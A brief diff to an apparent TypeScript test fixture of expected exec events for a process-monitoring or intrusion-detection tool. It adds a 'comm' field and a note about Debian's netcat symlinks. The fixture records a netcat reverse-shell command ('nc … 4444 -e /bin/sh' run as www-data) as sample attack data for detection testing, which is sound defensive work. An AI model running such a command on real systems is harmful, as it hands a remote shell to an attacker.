@@ -21,6 +21,8 @@ const expected: Record<string, ExecEvent[]> = {
         args: ["198.51.100.7", "4444", "-e", "/bin/sh"],
         pid: 30311,
         user: "www-data",
+        // Debian's alternatives: /bin/nc -> /etc/alternatives/nc -> nc.traditional; the kernel calls it nc.
+        comm: "nc",
       },
       ancestors: [
         { name: "dash", path: "/usr/bin/dash", args: ["-c", "nc 198.51.100.7 4444 -e /bin/sh"] },
